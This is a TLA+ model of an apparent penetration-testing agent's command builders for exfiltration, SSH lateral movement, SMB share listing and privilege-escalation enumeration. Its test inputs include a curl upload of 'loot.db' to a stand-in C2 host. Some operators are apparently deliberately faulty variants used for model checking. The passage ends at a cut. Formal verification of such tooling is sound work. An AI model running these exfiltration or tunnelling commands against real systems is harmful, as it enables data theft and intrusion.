---------------------------- MODULE Spec2Model ----------------------------
(***************************************************************************)
(* Command builders of cai.tools: data_exfiltration/exfiltration_tools.py, *)
(* lateral_movement/ssh_tools.py and privilege_scalation/privesc_tools.py. *)
(*                                                                         *)
(* Every builder formats one shell command from its parameters and ends in *)
(* `return run_command(cmd, ctf=ctf)`, or returns a validation message.    *)
(* A Python str is modelled as a sequence of one-character strings, so     *)
(* that quoting, escaping, case folding and joining are computed character *)
(* by character.  run_command is the external executor: the model records  *)
(* how often it was called, what it was last called with, and lets it      *)
(* return any text of Outputs.                                             *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

VARIABLES
    invocations,    \* number of builder invocations made so far
    allValid,       \* whether every invocation so far had an allowed direction argument
    execCount,      \* number of calls run_command has received so far
    calls,          \* the run_command calls of the latest invocation: cmd, ctf, text returned
    last,           \* the latest invocation: builder name and arguments as passed
    ret             \* value the latest invocation returned

vars == <<invocations, allValid, execCount, calls, last, ret>>

---------------------------------------------------------------------------
(* Bounds of the model. *)

\* number of builder invocations in one behaviour
MaxInvocations == 2

\* length of the generated strings (directories, passwords, remote commands)
MaxLen == 2

---------------------------------------------------------------------------
(* Python values. *)

\* ctf=None, the default of every builder's ctf parameter
None == "None"

\* an optional argument the caller left out, and one the caller passed
Omitted == <<>>
Given(v) == <<v>>

\* the value a parameter takes: its default when the caller left it out
Param(arg, default) == IF arg = Omitted THEN default ELSE arg[1]

LowerAlpha == <<"a","b","c","d","e","f","g","h","i","j","k","l","m","n","o","p","q","r","s","t","u","v","w","x","y","z">>
UpperAlpha == <<"A","B","C","D","E","F","G","H","I","J","K","L","M","N","O","P","Q","R","S","T","U","V","W","X","Y","Z">>
Digits == <<"0","1","2","3","4","5","6","7","8","9">>

Range(s) == {s[i] : i \in 1..Len(s)}

IndexOf(s, c) == CHOOSE i \in 1..Len(s) : s[i] = c

\* str.upper() and str.lower(), character by character
UpperChar(c) == IF c \in Range(LowerAlpha) THEN UpperAlpha[IndexOf(LowerAlpha, c)] ELSE c
LowerChar(c) == IF c \in Range(UpperAlpha) THEN LowerAlpha[IndexOf(UpperAlpha, c)] ELSE c

NoUpper(s) == s
upper(s) == [i \in 1..Len(s) |-> UpperChar(s[i])]

lower(s) == [i \in 1..Len(s) |-> LowerChar(s[i])]

\* str(n) and f"{n}" of an int
RECURSIVE NatStr(_)
NatStr(n) == IF n < 10 THEN <<Digits[n + 1]>> ELSE NatStr(n \div 10) \o <<Digits[(n % 10) + 1]>>

str(n) == IF n < 0 THEN <<"-">> \o NatStr(-n) ELSE NatStr(n)

\* sep.join(parts)
RECURSIVE join(_, _)
join(sep, parts) ==
    IF Len(parts) = 0 THEN <<>>
    ELSE IF Len(parts) = 1 THEN parts[1]
    ELSE parts[1] \o sep \o join(sep, Tail(parts))

\* the concatenation of the pieces of an f-string
RECURSIVE Cat(_)
Cat(parts) == IF Len(parts) = 0 THEN <<>> ELSE parts[1] \o Cat(Tail(parts))

\* s.replace(old, new) for a one-character old
RECURSIVE replace(_, _, _)
replace(s, old, new) ==
    IF Len(s) = 0 THEN <<>>
    ELSE (IF s[1] = old THEN new ELSE <<s[1]>>) \o replace(Tail(s), old, new)

\* os.path.basename(p): what follows the last "/"
RECURSIVE basename(_)
basename(p) ==
    IF Len(p) = 0 THEN <<>>
    ELSE IF p[Len(p)] = "/" THEN <<>>
    ELSE basename(SubSeq(p, 1, Len(p) - 1)) \o <<p[Len(p)]>>

\* shlex.quote(s): '' for the empty string, s itself when every character is
\* in [a-zA-Z0-9@%+=:,./_-], else s in single quotes with each ' as '"'"'
SafeChars == Range(LowerAlpha) \cup Range(UpperAlpha) \cup Range(Digits) \cup Range(<<"@","%","+","=",":",",",".","/","_","-">>)

shlex_quote(s) ==
    IF Len(s) = 0 THEN <<"'","'">>
    ELSE IF \A i \in 1..Len(s) : s[i] \in SafeChars THEN s
    ELSE <<"'">> \o replace(s, "'", <<"'","\"","'","\"","'">>) \o <<"'">>

---------------------------------------------------------------------------
(* What a builder ends in. *)

\* return run_command(cmd, ctf=ctf)
Run(cmd, ctf) == [tag |-> "run", cmd |-> cmd, ctf |-> ctf]

\* return "<message>"
Return(value) == [tag |-> "return", value |-> value]

\* truth value of a str in `if s:`
Truthy(s) == Len(s) > 0

---------------------------------------------------------------------------
(* data_exfiltration/exfiltration_tools.py *)

compress_directory(directory, archive_name, ctf) ==
    LET cmd == Cat(<<<<"t","a","r"," ","c","z","f"," ">>, Param(archive_name, <<"a","r","c","h","i","v","e",".","t","a","r",".","g","z">>), <<" ","-","C"," ">>, directory, <<" ",".">>>>)
    IN  Run(cmd, Param(ctf, None))

scp_upload(local_file, remote_path, user, host, port, identity_file, ctf) ==
    LET scp_parts == <<<<"s","c","p">>, <<"-","P">>, Param(port, <<"2","2">>)>>
                     \o (IF Truthy(Param(identity_file, <<>>))
                         THEN <<<<"-","i">>, Param(identity_file, <<>>)>> ELSE <<>>)
                     \o <<local_file, Cat(<<user, <<"@">>, host, <<":">>, remote_path>>)>>
        cmd == join(<<" ">>, scp_parts)
    IN  Run(cmd, Param(ctf, None))

scp_download(remote_file, local_path, user, host, port, identity_file, ctf) ==
    LET scp_parts == <<<<"s","c","p">>, <<"-","P">>, Param(port, <<"2","2">>)>>
                     \o (IF Truthy(Param(identity_file, <<>>))
                         THEN <<<<"-","i">>, Param(identity_file, <<>>)>> ELSE <<>>)
                     \o <<Cat(<<user, <<"@">>, host, <<":">>, remote_file>>), local_path>>
        cmd == join(<<" ">>, scp_parts)
    IN  Run(cmd, Param(ctf, None))

DropCtfBase64(file_path, ctf) == Run(<<"b","a","s","e","6","4"," ">> \o file_path, None)

base64_encode_file(file_path, ctf) ==
    Run(<<"b","a","s","e","6","4"," ">> \o file_path, Param(ctf, None))

upload_http(url, file_path, field_name, ctf) ==
    LET cmd == Cat(<<<<"c","u","r","l"," ","-","X"," ","P","O","S","T"," ","-","F"," ","'">>, Param(field_name, <<"f","i","l","e">>), <<"=","@">>, file_path, <<"'"," ">>, url>>)
    IN  Run(cmd, Param(ctf, None))

\* chunk_size_mb: int = 10
DefaultChunkSizeMb == 10

split_file(file_path, chunk_size_mb, ctf) ==
    LET base == basename(file_path)
        prefix == base \o <<".","p","a","r","t">>
        cmd == Cat(<<<<"s","p","l","i","t"," ","-","b"," ">>, str(Param(chunk_size_mb, DefaultChunkSizeMb)), <<"M"," ">>,
                     file_path, <<" ">>, prefix>>)
    IN  Run(cmd, Param(ctf, None))

AlwaysEncrypt(directory, archive_name, password, ctf) ==
    Run(Cat(<<<<"z","i","p"," ","-","r"," ","-","P"," ">>, shlex_quote(Param(password, <<>>)), <<" ">>,
              Param(archive_name, <<"a","r","c","h","i","v","e",".","z","i","p">>), <<" ">>, shlex_quote(directory)>>),
        Param(ctf, None))

compress_and_encrypt(directory, archive_name, password, ctf) ==
    LET quoted_dir == shlex_quote(directory)
        cmd == IF Truthy(Param(password, <<>>))
               THEN Cat(<<<<"z","i","p"," ","-","r"," ","-","P"," ">>, shlex_quote(Param(password, <<>>)), <<" ">>,
                          Param(archive_name, <<"a","r","c","h","i","v","e",".","z","i","p">>), <<" ">>, quoted_dir>>)
               ELSE Cat(<<<<"z","i","p"," ","-","r"," ">>, Param(archive_name, <<"a","r","c","h","i","v","e",".","z","i","p">>), <<" ">>, quoted_dir>>)
    IN  Run(cmd, Param(ctf, None))

---------------------------------------------------------------------------
(* lateral_movement/ssh_tools.py *)

SshExecPort2222(user, host, command, port, identity_file, ctf) ==
    Run(join(<<" ">>, <<<<"s","s","h">>, <<"-","p">>, Param(port, <<"2","2","2","2">>)>>
                  \o (IF Truthy(Param(identity_file, <<>>))
                      THEN <<<<"-","i">>, Param(identity_file, <<>>)>> ELSE <<>>)
                  \o <<Cat(<<user, <<"@">>, host>>), Cat(<<<<"\"">>, command, <<"\"">>>>)>>),
        Param(ctf, None))

ssh_exec(user, host, command, port, identity_file, ctf) ==
    LET ssh_parts == <<<<"s","s","h">>, <<"-","p">>, Param(port, <<"2","2">>)>>
                     \o (IF Truthy(Param(identity_file, <<>>))
                         THEN <<<<"-","i">>, Param(identity_file, <<>>)>> ELSE <<>>)
                     \o <<Cat(<<user, <<"@">>, host>>)>>
                     \o <<Cat(<<<<"\"">>, command, <<"\"">>>>)>>
        full_cmd == join(<<" ">>, ssh_parts)
    IN  Run(full_cmd, Param(ctf, None))

\* count: int = 4
DefaultCount == 4

ping_host(host, count, ctf) ==
    Run(Cat(<<<<"p","i","n","g"," ","-","c"," ">>, str(Param(count, DefaultCount)), <<" ">>, host>>), Param(ctf, None))

SshTunnelNoCheck(local_port, remote_host, remote_port, user, host, direction, identity_file, ctf) ==
    Run(join(<<" ">>, <<<<"s","s","h">>, <<"-","f">>, <<"-","N">>>>
                  \o (IF Truthy(Param(identity_file, <<>>))
                      THEN <<<<"-","i">>, Param(identity_file, <<>>)>> ELSE <<>>)
                  \o <<<<"-">> \o upper(Param(direction, <<"L">>)),
                       Cat(<<str(local_port), <<":">>, remote_host, <<":">>, str(remote_port)>>)>>
                  \o <<Cat(<<user, <<"@">>, host>>)>>),
        Param(ctf, None))

ssh_tunnel(local_port, remote_host, remote_port, user, host, direction, identity_file, ctf) ==
    LET dir == upper(Param(direction, <<"L">>))
        ssh_parts == <<<<"s","s","h">>, <<"-","f">>, <<"-","N">>>>
                     \o (IF Truthy(Param(identity_file, <<>>))
                         THEN <<<<"-","i">>, Param(identity_file, <<>>)>> ELSE <<>>)
                     \o <<<<"-">> \o dir,
                          Cat(<<str(local_port), <<":">>, remote_host, <<":">>, str(remote_port)>>)>>
                     \o <<Cat(<<user, <<"@">>, host>>)>>
        cmd == join(<<" ">>, ssh_parts)
    IN  IF dir \notin {<<"L">>, <<"R">>}
        THEN Return(<<"D","i","r","e","c","t","i","o","n"," ","m","u","s","t"," ","b","e"," ","'","L","'"," ","o","r"," ","'","R","'",".">>)
        ELSE Run(cmd, Param(ctf, None))

SmbNoEscape(host, user, password, domain, ctf) ==
    Run(Cat(<<<<"s","m","b","c","l","i","e","n","t"," ","-","L"," ","/","/">>, host, <<" ">>,
              IF Truthy(Param(user, <<>>))
              THEN Cat(<<<<"-","U"," ">>, IF Truthy(Param(domain, <<>>)) THEN Param(domain, <<>>) \o <<"\\">> ELSE <<>>,
                         Param(user, <<>>), <<"%">>, Param(password, <<>>)>>)
              ELSE <<"-","N">>,
              <<" ","-","g">>>>),
        Param(ctf, None))

smb_list_shares(host, user, password, domain, ctf) ==
    LET pw == IF Truthy(Param(password, <<>>)) THEN replace(Param(password, <<>>), "%", <<"%","%">>) ELSE <<>>
        auth == IF Truthy(Param(user, <<>>))
                THEN Cat(<<<<"-","U"," ">>,
                           IF Truthy(Param(domain, <<>>)) THEN Param(domain, <<>>) \o <<"\\">> ELSE <<>>,
                           Param(user, <<>>), <<"%">>, pw>>)
                ELSE <<"-","N">>
        cmd == Cat(<<<<"s","m","b","c","l","i","e","n","t"," ","-","L"," ","/","/">>, host, <<" ">>, auth, <<" ","-","g">>>>)
    IN  Run(cmd, Param(ctf, None))

RsyncSwapped(local_path, remote_path, user, host, port, identity_file, direction, ctf) ==
    LET dir == lower(Param(direction, <<"u","p","l","o","a","d">>))
        ssh_cmd == join(<<" ">>, <<<<"s","s","h">>, <<"-","p">>, Param(port, <<"2","2">>)>>
                            \o (IF Truthy(Param(identity_file, <<>>))
                                THEN <<<<"-","i">>, Param(identity_file, <<>>)>> ELSE <<>>))
        remote == Cat(<<user, <<"@">>, host, <<":">>, remote_path>>)
        base_cmd == <<<<"r","s","y","n","c">>, <<"-","a","v","z">>, <<"-","e">>, Cat(<<<<"\"">>, ssh_cmd, <<"\"">>>>)>>
    IN  IF dir = <<"u","p","l","o","a","d">> THEN Run(join(<<" ">>, base_cmd \o <<remote, local_path>>), Param(ctf, None))
        ELSE IF dir = <<"d","o","w","n","l","o","a","d">> THEN Run(join(<<" ">>, base_cmd \o <<local_path, remote>>), Param(ctf, None))
        ELSE Return(<<"D","i","r","e","c","t","i","o","n"," ","m","u","s","t"," ","b","e"," ","'","u","p","l","o","a","d","'"," ","o","r"," ","'","d","o","w","n","l","o","a","d","'",".">>)

rsync_transfer(local_path, remote_path, user, host, port, identity_file, direction, ctf) ==
    LET dir == lower(Param(direction, <<"u","p","l","o","a","d">>))
        ssh_opts == <<<<"s","s","h">>, <<"-","p">>, Param(port, <<"2","2">>)>>
                    \o (IF Truthy(Param(identity_file, <<>>))
                        THEN <<<<"-","i">>, Param(identity_file, <<>>)>> ELSE <<>>)
        remote == Cat(<<user, <<"@">>, host, <<":">>, remote_path>>)
        ssh_cmd == join(<<" ">>, ssh_opts)
        base_cmd == <<<<"r","s","y","n","c">>, <<"-","a","v","z">>, <<"-","e">>, Cat(<<<<"\"">>, ssh_cmd, <<"\"">>>>)>>
    IN  IF dir = <<"u","p","l","o","a","d">> THEN Run(join(<<" ">>, base_cmd \o <<local_path, remote>>), Param(ctf, None))
        ELSE IF dir = <<"d","o","w","n","l","o","a","d">> THEN Run(join(<<" ">>, base_cmd \o <<remote, local_path>>), Param(ctf, None))
        ELSE Return(<<"D","i","r","e","c","t","i","o","n"," ","m","u","s","t"," ","b","e"," ","'","u","p","l","o","a","d","'"," ","o","r"," ","'","d","o","w","n","l","o","a","d","'",".">>)

---------------------------------------------------------------------------
(* privilege_scalation/privesc_tools.py *)

list_suid_files(ctf) == Run(<<"f","i","n","d"," ","/"," ","-","p","e","r","m"," ","-","4","0","0","0"," ","-","t","y","p","e"," ","f"," ","2",">","/","d","e","v","/","n","u","l","l">>, Param(ctf, None))

sudo_permissions(ctf) == Run(<<"s","u","d","o"," ","-","l">>, Param(ctf, None))

kernel_info(ctf) == Run(<<"u","n","a","m","e"," ","-","a">>, Param(ctf, None))

world_writable_dirs(ctf) == Run(<<"f","i","n","d"," ","/"," ","-","p","e","r","m"," ","-","0","0","0","2"," ","-","t","y","p","e"," ","d"," ","2",">","/","d","e","v","/","n","u","l","l">>, Param(ctf, None))

list_file_capabilities(ctf) == Run(<<"g","e","t","c","a","p"," ","-","r"," ","/"," ","2",">","/","d","e","v","/","n","u","l","l">>, Param(ctf, None))

\* "\n" inside the Python literals is a line feed character, written "\n" here
LF == <<"\n">>

ListCronJobsNoTrue(ctf) ==
    Run(join(<<" ","&","&"," ">>, <<
            <<"e","c","h","o"," ","'","[","S","y","s","t","e","m"," ","c","r","o","n","t","a","b","]","'">>,
            <<"c","a","t"," ","/","e","t","c","/","c","r","o","n","t","a","b"," ","2",">","/","d","e","v","/","n","u","l","l">>,
            <<"e","c","h","o"," ","'">> \o LF \o <<"[","/","e","t","c","/","c","r","o","n","*"," ","d","i","r","e","c","t","o","r","i","e","s","]","'">>,
            <<"l","s"," ","-","l"," ","/","e","t","c","/","c","r","o","n","*"," ","2",">","/","d","e","v","/","n","u","l","l"," ","|","|"," ","t","r","u","e">>,
            <<"e","c","h","o"," ","'">> \o LF \o <<"[","C","u","r","r","e","n","t"," ","u","s","e","r"," ","c","r","o","n","t","a","b","]","'">>,
            <<"c","r","o","n","t","a","b"," ","-","l"," ","2",">","/","d","e","v","/","n","u","l","l"," ","|","|"," ","e","c","h","o"," ","'","N","o"," ","u","s","e","r"," ","c","r","o","n","t","a","b","'">>
        >>), Param(ctf, None))

list_cron_jobs(ctf) ==
    LET commands == <<
            <<"e","c","h","o"," ","'","[","S","y","s","t","e","m"," ","c","r","o","n","t","a","b","]","'">>,
            <<"c","a","t"," ","/","e","t","c","/","c","r","o","n","t","a","b"," ","2",">","/","d","e","v","/","n","u","l","l"," ","|","|"," ","t","r","u","e">>,
            <<"e","c","h","o"," ","'">> \o LF \o <<"[","/","e","t","c","/","c","r","o","n","*"," ","d","i","r","e","c","t","o","r","i","e","s","]","'">>,
            <<"l","s"," ","-","l"," ","/","e","t","c","/","c","r","o","n","*"," ","2",">","/","d","e","v","/","n","u","l","l"," ","|","|"," ","t","r","u","e">>,
            <<"e","c","h","o"," ","'">> \o LF \o <<"[","C","u","r","r","e","n","t"," ","u","s","e","r"," ","c","r","o","n","t","a","b","]","'">>,
            <<"c","r","o","n","t","a","b"," ","-","l"," ","2",">","/","d","e","v","/","n","u","l","l"," ","|","|"," ","e","c","h","o"," ","'","N","o"," ","u","s","e","r"," ","c","r","o","n","t","a","b","'">>
        >>
        cmd == join(<<" ","&","&"," ">>, commands)
    IN  Run(cmd, Param(ctf, None))

---------------------------------------------------------------------------
(* The arguments the builders are invoked with. *)

\* the characters of the generated strings: a letter, a space, both quotes
TextChars == {"a", " ", "\"", "'"}

\* every string over TextChars of at most MaxLen characters
Texts == UNION {[1..n -> TextChars] : n \in 0..MaxLen}

\* every password over a letter and the percent sign of at most MaxLen characters
Passwords == UNION {[1..n -> {"a", "%"}] : n \in 0..MaxLen}

\* text run_command may return
Outputs == {<<>>, <<"o","k">>}

Ctfs == {Omitted, Given("ctf1")}
AnyCtfs == {Omitted, Given(None), Given("ctf1")}
Ports == {Omitted, Given(<<"2","2">>), Given(<<"2","2","2","2">>)}
IdentityFiles == {Omitted, Given(<<>>), Given(<<"i","d","_","r","s","a">>)}
Directories == {<<"d","a","t","a">>, <<"m","y"," ","d","i","r">>}
ArchiveNames == {Omitted, Given(<<"o","u","t",".","t","a","r",".","g","z">>), Given(<<"a","r","c","h","i","v","e",".","t","a","r",".","g","z">>)}
ZipNames == {Omitted, Given(<<"o","u","t",".","z","i","p">>), Given(<<"a","r","c","h","i","v","e",".","z","i","p">>)}
ZipPasswords == {Omitted, Given(<<>>), Given(<<"s","3","c","r","e","t">>)}
Files == {<<"/","t","m","p","/","a">>, <<"l","o","o","t",".","d","b">>}
Commands == {<<"i","d">>, <<"l","s"," ","-","l","a">>, <<"e","c","h","o"," ","\"","a"," ","b","\"">>}
Counts == {Omitted, Given(4), Given(1), Given(12)}
ChunkSizes == {Omitted, Given(10), Given(1), Given(250)}
FieldNames == {Omitted, Given(<<"f","i","l","e">>), Given(<<"u","p","l","o","a","d">>)}
TunnelDirections == {Omitted, Given(<<"L">>), Given(<<"l">>), Given(<<"R">>), Given(<<"r">>),
                     Given(<<"X">>), Given(<<>>), Given(<<"L","R">>), Given(<<"l","o","c","a","l">>)}
RsyncDirections == {Omitted, Given(<<"u","p","l","o","a","d">>), Given(<<"U","P","L","O","A","D">>), Given(<<"U","p","l","o","a","d">>),
                    Given(<<"d","o","w","n","l","o","a","d">>), Given(<<"D","O","W","N","L","O","A","D">>), Given(<<"D","o","w","n","L","o","a","d">>),
                    Given(<<"s","i","d","e","w","a","y","s">>), Given(<<>>), Given(<<"u","p">>)}
SmbUsers == {Omitted, Given(<<>>), Given(<<"a","l","i","c","e">>)}
SmbDomains == {Omitted, Given(<<>>), Given(<<"C","O","R","P">>)}

---------------------------------------------------------------------------
(* The state machine: one action per builder. *)

Init ==
    /\ invocations = 0
    /\ allValid = TRUE
    /\ execCount = 0
    /\ calls = <<>>
    /\ last = [op |-> "none"]
    /\ ret = <<>>

InvokeTwice(valid, outcome) ==
    /\ invocations < MaxInvocations
    /\ invocations' = invocations + 1
    /\ allValid' = (allValid /\ valid)
    /\ IF outcome.tag = "run"
       THEN \E first \in Outputs, out \in Outputs :
               /\ execCount' = execCount + 2
               /\ calls' = <<[cmd |-> outcome.cmd, ctf |-> outcome.ctf, out |-> first],
                             [cmd |-> outcome.cmd, ctf |-> outcome.ctf, out |-> out]>>
               /\ ret' = out
       ELSE /\ ret' = outcome.value
            /\ calls' = <<>>
            /\ UNCHANGED execCount

\* One invocation of a builder, ending in outcome: run_command is called
\* once and its text returned, or a message is returned.
\* valid: whether the direction argument, if the builder has one, is allowed.
Invoke(valid, outcome) ==
    /\ invocations < MaxInvocations
    /\ invocations' = invocations + 1
    /\ allValid' = (allValid /\ valid)
    /\ IF outcome.tag = "run"
       THEN \E out \in Outputs :
               /\ execCount' = execCount + 1
               /\ calls' = <<[cmd |-> outcome.cmd, ctf |-> outcome.ctf, out |-> out]>>
               /\ ret' = out
       ELSE /\ ret' = outcome.value
            /\ calls' = <<>>
            /\ UNCHANGED execCount

\* the allowed values of ssh_tunnel's direction, in either letter case
TunnelAllowed == {<<"L">>, <<"l">>, <<"R">>, <<"r">>}

\* the allowed values of rsync_transfer's direction, in any letter case
UploadSpellings == {<<"u","p","l","o","a","d">>, <<"U","P","L","O","A","D">>, <<"U","p","l","o","a","d">>}
DownloadSpellings == {<<"d","o","w","n","l","o","a","d">>, <<"D","O","W","N","L","O","A","D">>, <<"D","o","w","n","L","o","a","d">>}

\* Each action draws its arguments from the builder's set of cases; the
\* outcome of every case is the builder applied to the case's arguments.

CompressDirectoryCases ==
    {[args |-> a, outcome |-> compress_directory(a.directory, a.archive_name, a.ctf)] :
        a \in {x \in [directory : Texts \cup Directories, archive_name : ArchiveNames, ctf : Ctfs] :
                  x.directory \in Directories
                  \/ (x.archive_name = Given(<<"o","u","t",".","t","a","r",".","g","z">>) /\ x.ctf = Omitted)}}

CompressDirectory ==
    \E c \in CompressDirectoryCases :
        /\ Invoke(TRUE, c.outcome)
        /\ last' = [op |-> "compress_directory", args |-> c.args]

ScpUploadCases ==
    {[args |-> a,
      outcome |-> scp_upload(a.local_file, a.remote_path, a.user, a.host, a.port,
                             a.identity_file, a.ctf)] :
        a \in [local_file : {<<"/","t","m","p","/","a">>}, remote_path : {<<"/","r","e","m","o","t","e","/","b">>}, user : {<<"b","o","b">>},
               host : {<<"1","0",".","0",".","0",".","5">>}, port : Ports, identity_file : IdentityFiles, ctf : Ctfs]}

ScpUpload ==
    \E c \in ScpUploadCases :
        /\ Invoke(TRUE, c.outcome)
        /\ last' = [op |-> "scp_upload", args |-> c.args]

ScpDownloadCases ==
    {[args |-> a,
      outcome |-> scp_download(a.remote_file, a.local_path, a.user, a.host, a.port,
                               a.identity_file, a.ctf)] :
        a \in [remote_file : {<<"/","r","e","m","o","t","e","/","b">>}, local_path : {<<"/","t","m","p","/","a">>}, user : {<<"b","o","b">>},
               host : {<<"1","0",".","0",".","0",".","5">>}, port : Ports, identity_file : IdentityFiles, ctf : Ctfs]}

ScpDownload ==
    \E c \in ScpDownloadCases :
        /\ Invoke(TRUE, c.outcome)
        /\ last' = [op |-> "scp_download", args |-> c.args]

Base64EncodeFileCases ==
    {[args |-> a, outcome |-> base64_encode_file(a.file_path, a.ctf)] :
        a \in [file_path : Files, ctf : AnyCtfs]}

Base64EncodeFile ==
    \E c \in Base64EncodeFileCases :
        /\ Invoke(TRUE, c.outcome)
        /\ last' = [op |-> "base64_encode_file", args |-> c.args]

UploadHttpCases ==
    {[args |-> a, outcome |-> upload_http(a.url, a.file_path, a.field_name, a.ctf)] :
        a \in [url : {<<"h","t","t","p",":","/","/","c","2","/","u">>}, file_path : Files, field_name : FieldNames, ctf : Ctfs]}

UploadHttp ==
    \E c \in UploadHttpCases :
        /\ Invoke(TRUE, c.outcome)
        /\ last' = [op |-> "upload_http", args |-> c.args]

SplitFileCases ==
    {[args |-> a, outcome |-> split_file(a.file_path, a.chunk_size_mb, a.ctf)] :
        a \in [file_path : Files, chunk_size_mb : ChunkSizes, ctf : Ctfs]}

SplitFile ==
    \E c \in SplitFileCases :
        /\ Invoke(TRUE, c.outcome)
        /\ last' = [op |-> "split_file", args |-> c.args]

CompressAndEncryptCases ==
    {[args |-> a,
      outcome |-> compress_and_encrypt(a.directory, a.archive_name, a.password, a.ctf)] :
        a \in {x \in [directory : Texts \cup Directories, archive_name : ZipNames,
                       password : ZipPasswords
                                  \cup {Given(p) : p \in Texts \cup {<<"p"," ","w","$">>, <<"i","t","'","s">>}},
                       ctf : Ctfs] :
                  \/ x.directory \in Directories /\ x.password \in ZipPasswords
                  \/ /\ x.directory = <<"m","y"," ","d","i","r">>
                     /\ x.archive_name = Given(<<"o","u","t",".","z","i","p">>)
                     /\ x.ctf = Omitted
                  \/ x.password = Omitted /\ x.archive_name = Omitted /\ x.ctf = Omitted}}

CompressAndEncrypt ==
    \E c \in CompressAndEncryptCases :
        /\ Invoke(TRUE, c.outcome)
        /\ last' = [op |-> "compress_and_encrypt", args |-> c.args]

SshExecCases ==
    {[args |-> a,
      outcome |-> ssh_exec(a.user, a.host, a.command, a.port, a.identity_file, a.ctf)] :
        a \in {x \in [user : {<<"a","l","i","c","e">>}, host : {<<"g","a","t","e","w","a","y">>}, command : Texts \cup Commands,
                       port : Ports, identity_file : IdentityFiles, ctf : Ctfs] :
                  \/ x.command \in Commands /\ (x.ctf = Omitted \/ x.identity_file = Omitted)
                  \/ x.port = Omitted /\ x.identity_file = Omitted /\ x.ctf = Omitted}}

SshExec ==
    \E c \in SshExecCases :
        /\ Invoke(TRUE, c.outcome)
        /\ last' = [op |-> "ssh_exec", args |-> c.args]

PingHostCases ==
    {[args |-> a, outcome |-> ping_host(a.host, a.count, a.ctf)] :
        a \in [host : {<<"g","a","t","e","w","a","y">>, <<"1","0",".","0",".","0",".","5">>}, count : Counts, ctf : Ctfs]}

PingHost ==
    \E c \in PingHostCases :
        /\ Invoke(TRUE, c.outcome)
        /\ last' = [op |-> "ping_host", args |-> c.args]

SshTunnelCases ==
    {[args |-> a,
      outcome |-> ssh_tunnel(a.local_port, a.remote_host, a.remote_port, a.user, a.host,
                             a.direction, a.identity_file, a.ctf)] :
        a \in {x \in [local_port : {8080, 5}, remote_host : {<<"i","n","t","e","r","n","a","l",".","h","o","s","t">>},
                       remote_port : {80, 65535}, user : {<<"a","l","i","c","e">>}, host : {<<"g","a","t","e","w","a","y">>},
                       direction : TunnelDirections, identity_file : IdentityFiles,
                       ctf : Ctfs] :
                  /\ (x.local_port = 8080) = (x.remote_port = 80)
                  /\ x.local_port = 8080 \/ (x.identity_file = Omitted /\ x.ctf = Omitted)
                  /\ x.ctf = Omitted \/ x.identity_file = Omitted}}

SshTunnel ==
    \E c \in SshTunnelCases :
        /\ Invoke(Param(c.args.direction, <<"L">>) \in TunnelAllowed, c.outcome)
        /\ last' = [op |-> "ssh_tunnel", args |-> c.args]

SmbListSharesCases ==
    {[args |-> a,
      outcome |-> smb_list_shares(a.host, a.user, a.password, a.domain, a.ctf)] :
        a \in {x \in [host : {<<"1","0",".","0",".","0",".","5">>}, user : SmbUsers,
                       password : {Omitted} \cup {Given(p) : p \in Passwords},
                       domain : SmbDomains, ctf : Ctfs] :
                  /\ x.user = Given(<<"a","l","i","c","e">>) \/ x.password \in {Omitted, Given(<<"a","%">>)}
                  /\ x.ctf = Omitted \/ (x.password = Given(<<"a","%">>) /\ x.domain = Omitted)}}

SmbListShares ==
    \E c \in SmbListSharesCases :
        /\ Invoke(TRUE, c.outcome)
        /\ last' = [op |-> "smb_list_shares", args |-> c.args]

RsyncTransferCases ==
    {[args |-> a,
      outcome |-> rsync_transfer(a.local_path, a.remote_path, a.user, a.host, a.port,
                                 a.identity_file, a.direction, a.ctf)] :
        a \in {x \in [local_path : {<<"/","t","m","p","/","a">>}, remote_path : {<<"/","r","e","m","o","t","e","/","b">>}, user : {<<"b","o","b">>},
                       host : {<<"1","0",".","0",".","0",".","5">>}, port : Ports,
                       identity_file : {Omitted, Given(<<"i","d","_","r","s","a">>)},
                       direction : RsyncDirections, ctf : Ctfs] :
                  x.ctf = Omitted \/ (x.port = Omitted /\ x.identity_file = Omitted)}}

RsyncTransfer ==
    \E c \in RsyncTransferCases :
        /\ Invoke(Param(c.args.direction, <<"u","p","l","o","a","d">>) \in UploadSpellings \cup DownloadSpellings,
               c.outcome)
        /\ last' = [op |-> "rsync_transfer", args |-> c.args]

ListSuidFiles ==
    \E ctf \in AnyCtfs :
        /\ Invoke(TRUE, list_suid_files(ctf))
        /\ last' = [op |-> "list_suid_files", args |-> [ctf |-> ctf]]

SudoPermissions ==
    \E ctf \in AnyCtfs :
        /\ Invoke(TRUE, sudo_permissions(ctf))
        /\ last' = [op |-> "sudo_permissions", args |-> [ctf |-> ctf]]

KernelInfo ==
    \E ctf \in AnyCtfs :
        /\ Invoke(TRUE, kernel_info(ctf))
        /\ last' = [op |-> "kernel_info", args |-> [ctf |-> ctf]]

WorldWritableDirs ==
    \E ctf \in AnyCtfs :
        /\ Invoke(TRUE, world_writable_dirs(ctf))
        /\ last' = [op |-> "world_writable_dirs", args |-> [ctf |-> ctf]]

ListFileCapabilities ==
    \E ctf \in AnyCtfs :
        /\ Invoke(TRUE, list_file_capabilities(ctf))
        /\ last' = [op |-> "list_file_capabilities", args |-> [ctf |-> ctf]]

ListCronJobs ==
    \E ctf \in AnyCtfs :
        /\ Invoke(TRUE, list_cron_jobs(ctf))
        /\ last' = [op |-> "list_cron_jobs", args |-> [ctf |-> ctf]]

Next ==
    \/ CompressDirectory
    \/ ScpUpload
    \/ ScpDownload
    \/ Base64EncodeFile
    \/ UploadHttp
    \/ SplitFile
    \/ CompressAndEncrypt
    \/ SshExec
    \/ PingHost
    \/ SshTunnel
    \/ SmbListShares
    \/ RsyncTransfer
    \/ ListSuidFiles
    \/ SudoPermissions
    \/ KernelInfo
    \/ WorldWritableDirs
    \/ ListFileCapabilities
    \/ ListCronJobs

Spec == Init /\ [][Next]_vars

---------------------------------------------------------------------------
(* How a POSIX shell splits a command line into words: unquoted blanks     *)
(* separate words; '...' keeps every character; "..." keeps every          *)
(* character except that a backslash escapes ", \ and $; an unquoted      *)
(* backslash escapes the next character.  Expansions and operators are not *)
(* modelled (no generated argument holds a backquote).  A command line     *)
(* that ends inside a quote has no words: the result is then Unterminated. *)

Unterminated == <<<<"unterminated quote">>>>

Blanks == {" ", "\t", "\n"}

\* the characters that end a run of ordinary characters in each mode
Specials(mode) ==
    CASE mode = "plain" -> Blanks \cup {"'", "\"", "\\"}
      [] mode = "single" -> {"'"}
      [] OTHER -> {"\"", "\\"}

\* index of the first character of s that is in set, Len(s) + 1 if none is
